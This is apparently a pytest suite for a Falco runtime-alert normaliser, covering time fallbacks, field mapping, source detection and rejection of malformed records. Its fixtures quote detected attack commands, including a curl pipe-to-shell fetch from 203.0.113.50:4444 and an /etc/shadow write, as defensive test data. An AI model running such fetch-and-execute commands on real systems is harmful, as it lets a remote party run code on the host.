"""Falco: golden tests on real alerts (expectations read off the samples by hand), detection,
and the records that must go to quarantine."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubetrail.ids import make_id
from kubetrail.model import KINDS, Event
from kubetrail.sources import NormalizeError
from kubetrail.sources.falco import SOURCE
from tests.conftest import FIXTURES, load_values
from tests.strategies import JSON_VALUES

WEBSITE = Path("falco/falco-website")


def _event(record: Any) -> Event:
    events = list(SOURCE.normalize(record))
    assert len(events) == 1
    return events[0]


def _extra(event: Event) -> dict[str, Any]:
    assert event.extra is not None
    extra: dict[str, Any] = json.loads(event.extra)
    return extra


def _falco_files(corpora: Path) -> list[Path]:
    return sorted(p for d in (corpora / WEBSITE, corpora / "falco/output_files") for p in d.iterdir() if p.is_file())


# -- golden tests on the real samples -------------------------------------------------------------


def test_malformed_time_falls_back_to_microsecond_evt_time(corpora: Path) -> None:
    # time "2021-04-13T20:58:00.746609046Z+2" is not RFC 3339; evt.time 1618347519000000 is in µs.
    (record,) = load_values(corpora / WEBSITE / "extend-falco-outputs-with-falcosidekick.jsonl")
    e = _event(record)
    assert e.time == 1_618_347_519_000_000_000  # 2021-04-13T20:58:39Z
    assert e.time_source == "output_fields.evt.time"
    assert e.id == make_id("falco", None, 1_618_347_519_000_000_000, "Fake rule", "A more realistic test event")
    assert (e.source, e.kind, e.format) == ("falco", "runtime_alert", "falco-json")
    assert (e.rule, e.priority, e.sensor_source, e.node, e.tags) == ("Fake rule", "Error", None, None, None)
    assert e.summary == "A more realistic test event"
    assert (e.binary, e.args, e.process_user, e.file_path) == ("touch", "/bin/hack", "root", "/bin/hack")
    assert e.raw is None and e.sensor_cluster is None


def test_syscall_alert_maps_process_and_container(corpora: Path) -> None:
    (record,) = load_values(corpora / WEBSITE / "docs_concepts_outputs_channels.jsonl")
    e = _event(record)
    assert (e.time, e.time_source) == (1_685_022_245_478_445_995, None)
    assert (e.kind, e.sensor_source, e.rule, e.priority) == (
        "runtime_alert",
        "syscall",
        "Terminal shell in container",
        "Critical",
    )
    assert e.tags == ["container", "mitre_execution", "shell"]
    assert e.node == "falco-xczjd"
    assert e.summary is not None and e.summary.startswith(
        "A shell was spawned in a container with an attached terminal (user=root"
    )
    assert (e.namespace, e.pod_name, e.container_id) == ("default", "kubecon", "ee97d9c4186f")
    assert e.image == "docker.io/library/alpine"
    assert (e.binary, e.args, e.parent_binary) == ("sh", "-c clear; (bash || ash || sh)", "runc")
    assert (e.process_user, e.tty) == ("root", True)
    assert e.kind != "process_exec"


def test_na_and_null_output_fields_are_unknown(corpora: Path) -> None:
    # falcosidekick part 1: container.image.repository and proc.pname are null, the output says <NA>.
    (record,) = load_values(corpora / WEBSITE / "falcosidekick-response-engine-part-1-kubeless.jsonl")
    e = _event(record)
    assert e.time == 1_610_667_584_834_631_763
    assert (e.image, e.parent_binary, e.parent_args) == (None, None, None)
    assert (e.container_id, e.namespace, e.pod_name) == ("5892b41bcf46", "default", "alpine")
    assert (e.binary, e.args, e.tty) == ("sh", None, True)
    assert (e.node, e.sensor_source, e.priority) == (None, None, "Notice")
    assert e.summary is not None and e.summary.startswith("A shell was spawned")
    assert _extra(e)["output_fields"]["proc.pname"] is None  # the complete output_fields are kept


def test_metrics_snapshot_is_sensor_stats_with_drop_counters(corpora: Path) -> None:
    records = load_values(corpora / WEBSITE / "docs_concepts_metrics__index.jsonl")
    e = _event(records[2])  # the snapshot with kernel event counters
    assert (e.kind, e.sensor_source, e.rule) == ("sensor_stats", "internal", "Falco internal: metrics snapshot")
    assert (e.time, e.node, e.priority) == (1_748_558_754_466_702_647, "test", "Informational")
    assert e.summary == "Falco metrics snapshot"
    assert e.drop_count == 0
    fields = _extra(e)["output_fields"]
    assert (fields["scap.n_drops"], fields["falco.num_evts"], fields["scap.engine_name"]) == (0, 49536, "bpf")

    lossy = copy.deepcopy(records[2])
    lossy["output_fields"]["scap.n_drops"] = 7
    lossy["output_fields"]["falco.outputs_queue_num_drops"] = 2
    assert _event(lossy).drop_count == 9

    # Only the output queue counter: still a known count; no counter at all: unknown, not zero.
    assert _event(records[0]).drop_count == 0
    silent = copy.deepcopy(records[0])
    del silent["output_fields"]["falco.outputs_queue_num_drops"]
    assert _event(silent).drop_count is None


def test_k8s_audit_alert_maps_actor_verb_and_target(corpora: Path) -> None:
    records = load_values(corpora / WEBSITE / "detect-threats-falco-ovh-mks-audit-logs-plugin.jsonl")
    e = _event(records[0])
    assert (e.kind, e.sensor_source, e.rule, e.priority) == ("runtime_alert", "k8s_audit", "Disallowed K8s User", "Warning")
    assert e.time == 1_739_178_940_698_757_000
    assert (e.actor, e.verb, e.resource, e.code) == ("csi-cinder-controller", "patch", "volumeattachments", 200)
    assert e.object_name == "csi-6afb06dce281b86b7bab718b5d966dc261b2b1554941ae449519a128cb2e3fb3"
    assert e.request_uri == (
        "/apis/storage.k8s.io/v1/volumeattachments/csi-6afb06dce281b86b7bab718b5d966dc261b2b1554941ae449519a128cb2e3fb3/status"
    )
    assert e.node == "my-pool-1-node-921b61"
    assert e.summary is not None and e.summary.startswith("K8s Operation performed by user not in allowed list")
    assert (e.container_id, e.binary) == (None, None)


def test_k8s_audit_exec_alert_keeps_subresource_and_command(corpora: Path) -> None:
    records = load_values(corpora / WEBSITE / "falco-plugin-k8saudit-eks.jsonl")
    created, attach = _event(records[0]), _event(records[1])
    assert (created.actor, created.resource, created.namespace, created.object_name) == (
        "system:node:ip-192-168-34-135.ec2.internal",
        "serviceaccounts",
        "default",
        "default",
    )
    assert (created.code, created.decision, created.reason) == (201, "allow", None)
    assert (attach.actor, attach.resource, attach.subresource, attach.exec_command) == ("kubernetes-admin", "pods", "exec", "sh")
    assert (attach.namespace, attach.object_name, attach.rule, attach.priority) == (
        "default",
        "kubecon",
        "Attach/Exec Pod",
        "Notice",
    )


def test_connection_tuple_in_fd_name_fills_network_columns(corpora: Path) -> None:
    records = load_values(corpora / WEBSITE / "falcosidekick-response-engine-part-9-fission.jsonl")
    e = _event(records[1])
    assert (e.src_ip, e.src_port, e.dst_ip, e.dst_port) == ("192.168.43.223", 39526, "10.100.0.1", 443)
    assert e.file_path is None  # a socket, not a file
    assert e.image == "fission/fetcher:1.13.1"
    assert e.binary == "fetcher"  # no proc.name: the cmdline's first word
    assert e.args == "-secret-dir /secrets -cfgmap-dir /configs -jaeger-collector-endpoint  /userfunc"
    assert (e.namespace, e.pod_name, e.container_id) == (
        "fission-function",
        "poolmgr-go-default-516098-5bdbf8c8f5-g8gvc",
        "281c99ea33c2",
    )


def test_iso8601_output_prefix_is_stripped(corpora: Path) -> None:
    events = [_event(r) for r in load_values(corpora / "falco/output_files/single_rule_with_cat_write.json")]
    assert len(events) == 8 and len({e.id for e in events}) == 8
    first = events[0]
    assert first.summary == "An open was seen (command=cat /dev/null)"
    assert first.time == 1_470_327_477_881_781_397
    assert (first.node, first.binary, first.args, first.sensor_source) == ("test-falco-hostname", "cat", "/dev/null", "syscall")


def test_same_alert_twice_has_the_same_id(corpora: Path) -> None:
    # Two blog posts published the identical alert: one event identity.
    a = load_values(corpora / WEBSITE / "falcosidekick-response-engine-part-2-openfass.jsonl")[0]
    (b,) = load_values(corpora / WEBSITE / "falcosidekick-response-engine-part-6-cloud-run.jsonl")
    assert _event(a).id == _event(b).id
    assert _event(a).id == _event(a).id


def test_every_falco_corpus_file_normalizes(corpora: Path) -> None:
    files = _falco_files(corpora)
    assert len(files) == 13
    for path in files:
        for record in load_values(path):
            assert SOURCE.detect(record), path
            for e in SOURCE.normalize(record):
                assert e.time > 0 and e.kind in KINDS and e.source == "falco", path


# -- small fixtures -----------------------------------------------------------------------------------


def test_falcosidekick_payload_uses_uuid_and_socket_fields() -> None:
    (record,) = load_values(FIXTURES / "falco/falcosidekick_outbound.json")
    e = _event(record)
    assert e.id == make_id("falco", "6f7b5c0e-2a1d-4c33-9a57-0d3c8e2b1f44")
    assert (e.format, e.sensor_cluster, e.node) == ("falcosidekick", None, "worker-2")  # Falco names no cluster
    assert (e.src_ip, e.src_port, e.dst_ip, e.dst_port, e.protocol) == ("10.244.1.17", 51234, "203.0.113.50", 4444, "TCP")
    assert e.file_path is None
    assert (e.binary, e.args, e.pid) == ("/usr/bin/curl", "-s http://203.0.113.50:4444/x.sh", 48211)
    assert (e.parent_binary, e.parent_args, e.parent_pid) == ("sh", "-c curl -s http://203.0.113.50:4444/x.sh | sh", 48210)
    assert (e.process_user, e.process_uid, e.tty) == ("www-data", 33, False)
    assert (e.container_name, e.image, e.pod_uid) == ("web", "ghcr.io/acme/web:1.4.2", "9d2f0a1e-5b7c-4e8d-a3f6-1c2b3d4e5f60")
    extra = _extra(e)
    assert extra["uuid"] == "6f7b5c0e-2a1d-4c33-9a57-0d3c8e2b1f44"
    assert extra["output_fields"]["environment"] == "production"


def test_legacy_syscall_drop_alert_is_sensor_stats() -> None:
    (record,) = load_values(FIXTURES / "falco/syscall_event_drop.json")
    e = _event(record)
    assert (e.kind, e.drop_count, e.priority) == ("sensor_stats", 9, "Critical")
    assert e.summary == "Falco internal: syscall event drop. 9 system calls dropped in last second."


def test_impersonated_k8s_audit_alert() -> None:
    (record,) = load_values(FIXTURES / "falco/k8s_audit_impersonation.json")
    e = _event(record)
    assert (e.actor, e.impersonated_by) == ("system:serviceaccount:payments:api", "alice@example.com")
    assert (e.verb, e.resource, e.namespace, e.object_name, e.code) == ("get", "secrets", "payments", "db-creds", 200)
    assert (e.audit_id, e.stage) == ("0b6c2c0e-8c1a-4a53-9a1b-7d4f2f3e9c11", "ResponseComplete")
    assert e.user_agent == "kubectl/v1.30.1 (linux/amd64) kubernetes/7c6a1b1"


def test_host_container_is_no_container() -> None:
    record = {
        "rule": "Write below etc",
        "priority": "Error",
        "time": "2025-01-01T00:00:00Z",
        "output_fields": {"container.id": "host", "container.name": "host", "fs.path.name": "/etc/shadow"},
    }
    e = _event(record)
    assert (e.container_id, e.container_name, e.file_path) == (None, None, "/etc/shadow")


# -- quarantine and detection ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "record",
    [
        {"rule": "r", "priority": "Warning", "output": "x", "output_fields": {}},
        {"rule": "r", "priority": "Warning", "output": "x", "time": "yesterday"},
        {"rule": "r", "priority": "Warning", "time": "bad", "output_fields": {"evt.time": "13:44:05.478445995"}},
        {"rule": "r", "priority": "Warning", "time": "2025-01-01T00:00:00Z", "output_fields": ["not", "an", "object"]},
        ["not", "an", "alert"],
    ],
)
def test_unusable_records_raise_normalize_error(record: Any) -> None:
    with pytest.raises(NormalizeError):
        list(SOURCE.normalize(record))


def test_no_time_anywhere_names_every_field_looked_at() -> None:
    with pytest.raises(NormalizeError, match=r"time=None, and no output_fields evt\.time, evt\.rawtime or evt\.time\.iso8601"):
        SOURCE.normalize({"rule": "r", "priority": "Warning", "output": "x", "output_fields": {"proc.name": "sh"}})


def test_detect_rejects_other_sources(corpora: Path) -> None:
    others = [corpora / "falco/k8s_audit", corpora / "k8s-audit", corpora / "hubble", corpora / "otel", corpora / "tetragon"]
    for path in sorted(p for d in others for p in d.rglob("*") if p.is_file()):
        for record in load_values(path):
            assert not SOURCE.detect(record), path


@pytest.mark.parametrize(
    "value",
    [
        {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "get", "stage": "ResponseComplete"},
        {"flow": {"verdict": "FORWARDED"}, "node_name": "kind/worker", "time": "2025-01-01T00:00:00Z"},
        {"resourceSpans": []},
        {"apiVersion": "v1", "kind": "List", "items": []},
        {"rule": "r"},
        {"rule": 1, "priority": "Warning", "output": "x"},
        [],
        "Falco",
        None,
        42,
    ],
)
def test_detect_false_on_non_falco_values(value: Any) -> None:
    assert SOURCE.detect(value) is False


@given(JSON_VALUES)
def test_detect_never_raises(value: Any) -> None:
    assert isinstance(SOURCE.detect(value), bool)


@given(st.dictionaries(st.sampled_from(["rule", "priority", "output", "time", "output_fields", "hostname"]), JSON_VALUES))
def test_normalize_returns_an_event_or_raises_normalize_error(value: dict[str, Any]) -> None:
    try:
        events = list(SOURCE.normalize(value))
    except NormalizeError:
        return
    assert len(events) == 1 and events[0].kind in KINDS


# -- optional fields: Falco's json_include_* switches, older versions, falcosidekick --------------------

SIDEKICK = FIXTURES / "falco/falcosidekick_outbound.json"


def _fixture() -> dict[str, Any]:
    (record,) = load_values(SIDEKICK)
    assert isinstance(record, dict)
    return copy.deepcopy(record)


def test_alert_without_time_is_dated_by_evt_time() -> None:
    record = _fixture()
    del record["time"]
    assert SOURCE.detect(record)
    e = _event(record)
    assert (e.time, e.time_source) == (1_740_909_731_204_518_337, "output_fields.evt.time")


def test_falcosidekick_zero_time_falls_back_to_evt_time() -> None:
    record = _fixture() | {"time": "0001-01-01T00:00:00Z"}  # Go's zero time.Time
    e = _event(record)
    assert (e.time, e.time_source) == (1_740_909_731_204_518_337, "output_fields.evt.time")


def test_iso8601_evt_time_when_time_format_iso_8601_is_on() -> None:
    record = {
        "rule": "r",
        "priority": "Notice",
        "output": "x",
        "output_fields": {"evt.time.iso8601": "2025-03-02T10:02:11.204518337Z"},
    }
    e = _event(record)
    assert (e.time, e.time_source) == (1_740_909_731_204_518_337, "output_fields.evt.time.iso8601")


def test_alert_without_output_uses_message_for_summary_and_identity() -> None:
    # json_include_output_property: false, json_include_message_property: true (Falco 0.39+).
    record = _fixture()
    del record["output"], record["uuid"]
    record["message"] = "Disallowed outbound connection destination (connection=10.244.1.17:51234->203.0.113.50:4444)"
    assert SOURCE.detect(record)
    e = _event(record)
    assert e.summary == record["message"]
    assert e.id == make_id("falco", "worker-2", e.time, "Unexpected outbound connection destination", record["message"])
    assert "message" not in _extra(e)


def test_alert_with_only_the_always_written_keys_is_detected_and_read() -> None:
    # output, tags and output_fields all turned off: time, rule, priority, source, hostname remain.
    record = {
        "hostname": "worker-2",
        "priority": "Warning",
        "rule": "Write below etc",
        "source": "syscall",
        "time": "2025-01-01T00:00:00Z",
    }
    assert SOURCE.detect(record)
    e = _event(record)
    assert (e.summary, e.node, e.kind, e.time_source) == ("Write below etc", "worker-2", "runtime_alert", None)


def test_alert_without_output_or_message_builds_a_summary_from_its_fields() -> None:
    record = _fixture()
    del record["output"], record["uuid"]
    e = _event(record)
    assert e.summary == (
        "Unexpected outbound connection destination: /usr/bin/curl -s http://203.0.113.50:4444/x.sh by www-data"
        " in shop/web-7c9d8b6f5-x2k4q"
    )
    other = _fixture() | {"output_fields": {**_fixture()["output_fields"], "proc.pid": 1}}
    del other["output"], other["uuid"]
    assert _event(other).id != e.id  # the fields tell two such alerts apart


def test_null_output_fields_and_no_hostname_of_older_falco() -> None:
    record = {"output": "10:02:11.204518337: Notice x", "priority": "Notice", "rule": "r", "time": "2025-01-01T00:00:00Z"}
    e = _event(record | {"output_fields": None})
    assert (e.node, e.summary, e.binary) == (None, "x", None)
